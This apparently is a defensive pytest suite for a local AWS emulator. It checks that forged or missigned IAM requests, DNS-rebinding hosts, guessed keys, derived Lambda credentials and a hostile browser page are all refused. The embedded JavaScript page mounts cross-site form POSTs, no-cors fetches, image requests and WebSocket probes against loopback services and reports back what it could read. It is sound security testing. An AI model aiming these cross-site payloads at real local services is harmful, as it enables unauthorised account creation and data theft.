"""Attacks on the embedded AWS from this machine: by web pages, by other users, and by names bound to 127.0.0.1."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import signal
import subprocess
import threading
import urllib.error
import urllib.request
from dataclasses import astuple
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from botocore.exceptions import ClientError

from estate_tool.core import embedded, paths
from estate_tool.core.embedded import ports
from tests.integration.cloud import ACCOUNT, make_function, make_queue, make_role, unique
from tests.support.waiting import expect_soon

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.integration.conftest import EmbeddedAws

CREATE_USER = "Action=CreateUser&Version=2010-05-08&UserName="
FORM = "application/x-www-form-urlencoded"
CHROMIUM = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), ""
)


def ask(aws: EmbeddedAws, path: str, body: str | None = None, **headers: str) -> tuple[int, Any]:
    """Status and headers of the answer to a request as it is given."""
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    request = urllib.request.Request(aws.endpoint + path, body.encode() if body is not None else None, named)
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, answer.headers
    except urllib.error.HTTPError as error:
        return error.code, error.headers


def signed(aws: EmbeddedAws, service: str, body: str = "", path: str = "/", **headers: str) -> dict[str, str]:
    """Headers that the administrator has signed, for a POST of the body."""
    given = {"Content-Type": FORM, **{name.replace("_", "-"): value for name, value in headers.items()}}
    request = AWSRequest("POST", aws.endpoint + path, data=body, headers=given)
    SigV4Auth(Credentials(*astuple(aws.administrator)), service, "us-east-1").add_auth(request)
    return {name.replace("-", "_"): value for name, value in request.headers.items()}


def users(aws: EmbeddedAws) -> set[str]:
    return {user["UserName"] for user in aws.client("iam").list_users()["Users"]}


@pytest.fixture
def untouched(embedded_aws: EmbeddedAws) -> Iterator[EmbeddedAws]:
    """An embedded AWS in which, at the end of the test, there is what there was before."""
    url, _ = make_queue(embedded_aws)
    before, identity = users(embedded_aws), embedded.status(embedded_aws.paths).identity
    yield embedded_aws
    assert users(embedded_aws) == before
    assert embedded.status(embedded_aws.paths).identity == identity
    assert url in embedded_aws.client("sqs").list_queues()["QueueUrls"]


def test_forged_requests_change_nothing_and_their_answers_have_no_cors(untouched: EmbeddedAws) -> None:
    """One of each kind that the unit tests of the gateway and of signatures try in detail."""
    body, other = CREATE_USER + unique("forged"), CREATE_USER + unique("other")
    host, headers = f"rebound.example:{untouched.paths.port}", signed(untouched, "iam", body)
    answers = [
        ask(untouched, "/", body, Content_Type=FORM),
        ask(untouched, "/_ministack/reset", "{}"),
        ask(untouched, "/", other, **headers),
        ask(untouched, "/", body, **signed(untouched, "iam", body, Host=host)),
        ask(untouched, "/", body, **headers, Origin="https://evil.example"),
    ]
    for key, secret in (("test", "test"), (ACCOUNT, "test"), ("AKIAIOSFODNN7EXAMPLE", "test")):
        request = AWSRequest("POST", untouched.endpoint + "/", data=body, headers={"Content-Type": FORM})
        SigV4Auth(Credentials(key, secret), "iam", "us-east-1").add_auth(request)
        answers.append(ask(untouched, "/", body, **{name.replace("-", "_"): v for name, v in request.headers.items()}))
    assert {status for status, _ in answers} <= {400, 403}
    assert not [name for _, found in answers for name in found if name.lower().startswith("access-control")]


def test_a_key_without_its_secret_is_refused_as_on_aws(untouched: EmbeddedAws) -> None:
    key = untouched.administrator.access_key_id
    for service, call in (("dynamodb", "list_tables"), ("sqs", "list_queues"), ("application-autoscaling", "")):
        client = untouched.new_client(service, key, "guessed")
        act = getattr(client, call) if call else client.describe_scalable_targets
        with pytest.raises(ClientError) as caught:
            act(**({} if call else {"ServiceNamespace": "dynamodb"}))
        assert caught.value.response["Error"]["Code"] in ("InvalidSignatureException", "SignatureDoesNotMatch")


def test_the_credentials_of_a_function_cannot_be_derived_from_its_name(untouched: EmbeddedAws) -> None:
    role = make_role(untouched, (["sqs:ListQueues"], ["*"]))
    name = make_function(untouched, role, "import os\ndef handle(e, c): return os.environ['AWS_ACCESS_KEY_ID']")
    answer = untouched.client("lambda").invoke(FunctionName=name)
    assert json.load(answer["Payload"]).startswith("ASIA")
    for qualifier in ("", ":1", ":live", ":$LATEST"):
        function = f"arn:aws:lambda:us-east-1:{ACCOUNT}:function:{name}{qualifier}"
        digest = hashlib.sha256(f"{function}:{role}".encode()).hexdigest()
        derived = (hashlib.sha256(f"{kind}:{digest}".encode()).hexdigest() for kind in ("secret", "token"))
        with pytest.raises(ClientError):
            untouched.new_client("sqs", f"ASIA{digest[:16].upper()}", *derived).list_queues()


def test_code_is_downloaded_by_its_link_alone(embedded_aws: EmbeddedAws) -> None:
    name = make_function(embedded_aws, make_role(embedded_aws), "def handle(e, c): return 1")
    link = embedded_aws.client("lambda").get_function(FunctionName=name)["Code"]["Location"]
    with urllib.request.urlopen(link, timeout=20) as archive:
        assert archive.read().startswith(b"PK")
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(link.partition("?")[0], timeout=20)
    assert caught.value.code == 403


def test_there_is_one_port_and_it_is_on_loopback(embedded_aws: EmbeddedAws) -> None:
    addresses = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError), Path(table).open() as listing:
            fields = [line.split() for line in list(listing)[1:]]
            port = f":{embedded_aws.paths.port:04X}"
            addresses |= {item[1] for item in fields if item[3] == "0A" and item[1].endswith(port)}
    if not addresses:
        pytest.skip("this system does not tell who listens in /proc/net/tcp")
    assert addresses == {f"0100007F:{embedded_aws.paths.port:04X}"}


def test_a_shell_that_evaluates_the_variables_is_the_administrator(embedded_aws: EmbeddedAws) -> None:
    who = "import boto3; print(boto3.client('sts').get_caller_identity()['Arn'])"
    script = f'eval "$({paths.SCRIPTS}/estate local env)" && python -c "{who}"'
    mine = {"ESTATE_HOME": str(embedded_aws.paths.home), "ESTATE_PORT": str(embedded_aws.paths.port)}
    done = subprocess.run(
        ["bash", "-c", script], env={"PATH": os.environ["PATH"], "HOME": os.environ["HOME"], **mine},
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert done.stdout.strip() == f"arn:aws:iam::{ACCOUNT}:root"


# All that a page can do to a port on loopback, to the embedded AWS and to a server without a gateway; what it could
# read comes back.
PAGE = """<!doctype html><body><script>
const targets = TARGETS, read = {};
function form(url, name) {
  const frame = document.createElement("iframe"); frame.name = name; document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: url + "/", target: name});
  for (const [key, value] of Object.entries({Action: "CreateUser", Version: "2010-05-08", UserName: "FORM"})) {
    const input = document.createElement("input"); Object.assign(input, {name: key, value}); form.append(input);
  }
  document.body.append(form); form.submit();
  return new Promise(done => { frame.onload = done; setTimeout(done, 5000); });
}
function image(url) {
  return new Promise(done => { const made = new Image(); made.onload = made.onerror = done; made.src = url; });
}
function opened(url) {
  return new Promise(done => {
    const made = new WebSocket(url.replace("http", "ws") + "/_aws/execute-api/x/y");
    made.onopen = () => done(true); made.onerror = made.onclose = () => done(false);
  });
}
async function attack(name, url) {
  const body = "Action=CreateUser&Version=2010-05-08&UserName=FETCH", method = "POST";
  await form(url, name);
  await fetch(url + "/", {method, body, mode: "no-cors", headers: {"Content-Type": "FORMTYPE"}}).catch(() => 0);
  await fetch(url + "/_ministack/reset", {method, mode: "no-cors"}).catch(() => 0);
  await image(url + "/?" + body.replace("FETCH", "IMAGE"));
  read[name] = {
    socket: await opened(url),
    text: await fetch(url + "STATUS").then(answer => answer.text()).catch(() => null),
    json: await fetch(url + "/", {method, headers: {"X-Amz-Target": "x"}}).then(() => true).catch(() => false),
  };
}
Promise.all(Object.entries(targets).map(([name, url]) => attack(name, url)))
  .then(() => fetch("/read", {method: "POST", body: JSON.stringify(read)}));
</script></body>"""


class Website(ThreadingHTTPServer):
    """A web site with the page, beside a server that keeps what reaches it and answers with CORS."""

    def __init__(self, page: str) -> None:
        self.page, self.reached, self.read = page.encode(), [], threading.Event()
        self.posted: dict[str, Any] = {}
        super().__init__(("127.0.0.1", 0), Visitor)


class Visitor(BaseHTTPRequestHandler):
    @property
    def site(self) -> Website:
        assert isinstance(self.server, Website)
        return self.server

    def do_GET(self) -> None:
        self._answer(self.site.page if self.path == "/page" else b"open")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"] or 0))
        if self.path == "/read":
            self.site.posted = json.loads(body)
            self.site.read.set()
        self._answer(b"{}", body)

    def _answer(self, answer: bytes, body: bytes = b"") -> None:
        self.site.reached.append((self.path, body))
        self.send_response(200)
        for name, value in (("Content-Type", "text/html"), ("Access-Control-Allow-Origin", "*")):
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
        """No line per request."""


@contextlib.contextmanager
def serving(site: Website) -> Iterator[str]:
    threading.Thread(target=site.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{site.server_address[1]}"
    finally:
        site.shutdown()
        site.server_close()


@contextlib.contextmanager
def browsing(url: str, folder: Path) -> Iterator[None]:
    """Headless Chromium on a page, with a profile of its own; nothing of it is left."""
    flags = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run")
    process = subprocess.Popen(
        [CHROMIUM, *flags, f"--user-data-dir={folder}", "--remote-debugging-port=0", url], start_new_session=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


@pytest.mark.skipif(not CHROMIUM, reason="no Chromium on this machine (Debian: apt-get install chromium)")
def test_a_page_in_a_browser_does_nothing_and_reads_nothing(untouched: EmbeddedAws, tmp_path: Path) -> None:
    guarded, open_ = Website(""), Website("")
    with serving(guarded) as site, serving(open_) as victim:
        targets = json.dumps({"embedded": untouched.endpoint, "open": victim})
        page = PAGE.replace("TARGETS", targets).replace("STATUS", ports.STATUS_PATH).replace("FORMTYPE", FORM)
        guarded.page = page.encode()
        with browsing(f"{site}/page", tmp_path):
            expect_soon(guarded.read.is_set, "the page has tried everything", 60)

    assert guarded.posted["embedded"] == {"socket": False, "text": None, "json": False}
    # The same page does all of it to a server that lets it: what was refused above did arrive.
    assert guarded.posted["open"]["text"] == "open"
    assert b"UserName=FORM" in b"".join(body for _, body in open_.reached)
    assert {"/_ministack/reset", ports.STATUS_PATH} <= {path for path, _ in open_.reached}
    assert not {"FORM", "FETCH", "IMAGE"} & users(untouched)


def test_files_of_the_home_are_private(untouched: EmbeddedAws) -> None:
    make_queue(untouched)
    expect_soon((untouched.paths.folder / "state.json").exists, "the state is saved")
    everything = [untouched.paths.home, *untouched.paths.home.rglob("*")]
    assert not [path for path in everything if path.exists() and path.stat().st_mode & 0o077]
